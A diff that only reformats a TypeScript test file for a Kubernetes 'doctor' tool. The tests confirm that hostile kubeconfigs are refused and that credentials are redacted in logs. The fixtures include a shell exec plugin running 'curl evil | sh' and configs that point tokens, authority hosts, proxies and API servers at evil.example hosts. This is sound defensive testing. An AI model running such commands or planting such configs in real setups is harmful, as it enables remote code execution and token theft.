@@ -59,7 +59,10 @@ describe("doctor: the kubeconfig from the state is checked before anything runs"
 
     it("refuses any other exec plugin unless --allow-exec", () => {
         const shell = programKubeconfig("azurecli", (d) => { exec(d).command = "/bin/sh"; exec(d).args = ["-c", "curl evil | sh"]; });
-        refused(shell, /^stack output `kubeconfig`: user .* runs an exec plugin that is not the kubelogin the program writes: its command is not `kubelogin`.*--allow-exec/);
+        refused(
+            shell,
+            /^stack output `kubeconfig`: user .* runs an exec plugin that is not the kubelogin the program writes: its command is not `kubelogin`.*--allow-exec/,
+        );
         assert.equal(vetKubeconfig(shell, STACK, { allowExec: true }).auth, "exec /bin/sh (--allow-exec)");
         // The kubeconfig Azure itself hands out logs in with devicecode: interactive, not the program's.
         refused(entraUserKubeconfig(facts), /`--login` has a value the program does not write/);
@@ -68,19 +71,37 @@ describe("doctor: the kubeconfig from the state is checked before anything runs"
 
     it("refuses the program's kubelogin bent to leak a token or secret: another audience, authority, file or server", () => {
         // An ARM audience: kubelogin would fetch a token for Azure Resource Manager and send it to `server`.
-        refused(programKubeconfig("azurecli", (d) => { const a = exec(d).args; a[a.indexOf("--server-id") + 1] = "https://management.azure.com/"; }), /`--server-id` has a value/);
-        refused(programKubeconfig("spn", (d) => { exec(d).args.push("--authority-host", "https://login.evil.example/"); }), /flag `--authority-host` is not one the program writes/);
-        refused(programKubeconfig("spn", (d) => { exec(d).args.push("--client-certificate=/home/op/.azure/cert.pfx"); }), /flag `--client-certificate`/);
-        refused(programKubeconfig("spn", (d) => { exec(d).env?.push({ name: "AZURE_AUTHORITY_HOST", value: "https://login.evil.example/" }); }), /exec env `AZURE_AUTHORITY_HOST` is not a variable/);
+        refused(programKubeconfig("azurecli", (d) => {
+            const a = exec(d).args;
+            a[a.indexOf("--server-id") + 1] = "https://management.azure.com/";
+        }), /`--server-id` has a value/);
+        refused(programKubeconfig("spn", (d) => {
+            exec(d).args.push("--authority-host", "https://login.evil.example/");
+        }), /flag `--authority-host` is not one the program writes/);
+        refused(programKubeconfig("spn", (d) => {
+            exec(d).args.push("--client-certificate=/home/op/.azure/cert.pfx");
+        }), /flag `--client-certificate`/);
+        refused(programKubeconfig("spn", (d) => {
+            exec(d).env?.push({ name: "AZURE_AUTHORITY_HOST", value: "https://login.evil.example/" });
+        }), /exec env `AZURE_AUTHORITY_HOST` is not a variable/);
         // The program only ever empties the certificate path (kubeloginEnv); a path would turn spn into a certificate login.
-        refused(programKubeconfig("spn", (d) => { const e = exec(d).env?.find((x) => x.name === "AZURE_CLIENT_CERTIFICATE_PATH"); if (e) e.value = "/home/op/.azure/cert.pem"; }), /exec env `AZURE_CLIENT_CERTIFICATE_PATH` has a value the program does not write/);
-        refused(programKubeconfig("spn", (d) => { d.clusters[0].cluster.server = "https://api.evil.example:443"; }), /the server api\.evil\.example is not an AKS API server/);
+        refused(programKubeconfig("spn", (d) => {
+            const e = exec(d).env?.find((x) => x.name === "AZURE_CLIENT_CERTIFICATE_PATH");
+            if (e) e.value = "/home/op/.azure/cert.pem";
+        }), /exec env `AZURE_CLIENT_CERTIFICATE_PATH` has a value the program does not write/);
+        refused(programKubeconfig("spn", (d) => {
+            d.clusters[0].cluster.server = "https://api.evil.example:443";
+        }), /the server api\.evil\.example is not an AKS API server/);
     });
 
     it("refuses insecure-skip-tls-verify and plain http, whatever the source", () => {
         for (const source of [STACK, FILE]) {
-            refused(programKubeconfig("azurecli", (d) => { d.clusters[0].cluster["insecure-skip-tls-verify"] = true; }), /insecure-skip-tls-verify; the doctor never talks to an API server it cannot verify/, source);
-            refused(programKubeconfig("azurecli", (d) => { d.clusters[0].cluster.server = `http://${facts.fqdn}:80`; }), /server is not https:\/\//, source);
+            refused(programKubeconfig("azurecli", (d) => {
+                d.clusters[0].cluster["insecure-skip-tls-verify"] = true;
+            }), /insecure-skip-tls-verify; the doctor never talks to an API server it cannot verify/, source);
+            refused(programKubeconfig("azurecli", (d) => {
+                d.clusters[0].cluster.server = `http://${facts.fqdn}:80`;
+            }), /server is not https:\/\//, source);
         }
     });
 
@@ -100,7 +121,9 @@ describe("doctor: the kubeconfig from the state is checked before anything runs"
             const text = programKubeconfig("azurecli", (d) => { d.users[0].user = { "token-file": stolen }; });
             refused(text, /user .* token-file would make the doctor read a local file/);
             await assert.rejects(kubernetesReader(text), KubeconfigRefusedError);
-            refused(programKubeconfig("azurecli", (d) => { d.clusters[0].cluster["proxy-url"] = "http://proxy.evil.example:3128"; }), /proxy-url/);
+            refused(programKubeconfig("azurecli", (d) => {
+                d.clusters[0].cluster["proxy-url"] = "http://proxy.evil.example:3128";
+            }), /proxy-url/);
             // The user's own file may (kubectl semantics): it is theirs.
             assert.equal(vetKubeconfig(text, FILE).server, `https://${facts.fqdn}`);
         } finally {
@@ -137,7 +160,13 @@ describe("doctor: the kubeconfig from the state is checked before anything runs"
             const kubeconfig = stringify({
                 apiVersion: "v1", kind: "Config", "current-context": "c",
                 // Port 1 on localhost: nothing listens, so the run ends after authentication.
-                clusters: [{ name: "c", cluster: { server: "https://127.0.0.1:1", "certificate-authority-data": Buffer.from(facts.caCertPem).toString("base64") } }],
+                clusters: [{
+                    name: "c",
+                    cluster: {
+                        server: "https://127.0.0.1:1",
+                        "certificate-authority-data": Buffer.from(facts.caCertPem).toString("base64"),
+                    },
+                }],
                 contexts: [{ name: "c", context: { cluster: "c", user: "u" } }],
                 users: [{
                     name: "u",
@@ -174,7 +203,9 @@ describe("doctor: nothing it prints can forge a line or move the cursor", () => 
         });
         const text = renderText(report);
         // Every line is a check line, an indented cause/fix/see, blank, or the summary.
-        for (const line of text.split("\n")) assert.match(line, /^((PASS|FAIL|WARN|SKIP) {2}\S|\s{6}(cause|fix|see):|$|\d+ passed)/, JSON.stringify(line));
+        for (const line of text.split("\n")) {
+            assert.match(line, /^((PASS|FAIL|WARN|SKIP) {2}\S|\s{6}(cause|fix|see):|$|\d+ passed)/, JSON.stringify(line));
+        }
         assert.equal(text.split("\n").filter((l) => l.startsWith("PASS  vault.role")).length, 0, "forged PASS line");
         assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
         const annotations = report.checks.find((c) => c.id === "pod.annotations");
@@ -215,7 +246,10 @@ describe("doctor: redaction of credentials in log lines", () => {
             assert.ok(!out.includes(secret), `${line} -> ${out}`);
             assert.match(out, /\[redacted/);
         }
-        assert.equal(redact("GET https://admin:s3cr3t@vault.example.com:8200/v1/sys"), "GET https://[redacted]@vault.example.com:8200/v1/sys");
+        assert.equal(
+            redact("GET https://admin:s3cr3t@vault.example.com:8200/v1/sys"),
+            "GET https://[redacted]@vault.example.com:8200/v1/sys",
+        );
     });
 
     it("32-character random values as RandomPassword generates them for seeds (default: upper, lower, digits; special optional)", () => {
